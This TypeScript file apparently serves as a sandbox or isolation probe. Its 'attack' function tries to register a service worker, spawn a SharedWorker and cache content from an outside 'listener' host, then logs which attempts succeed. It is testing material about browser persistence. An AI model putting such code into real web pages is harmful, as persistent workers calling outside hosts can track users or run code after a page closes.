import { listener } from "./listener";

/** Workers that live on, and tabs that do. */
export async function attack() {
  const found: string[] = [];
  try {
    await (navigator as any).serviceWorker.register(`${listener}/sw.js`);
    found.push("service");
  } catch {
    // Refused.
  }
  try {
    new (self as any).SharedWorker(`${listener}/shared.js`);
    found.push("shared");
  } catch {
    // Refused.
  }
  try {
    await (await caches.open("x")).add(`${listener}/cached`);
    found.push("cached");
  } catch {
    // Refused.
  }
  console.log(`arrived: ${found.join()}`);
}
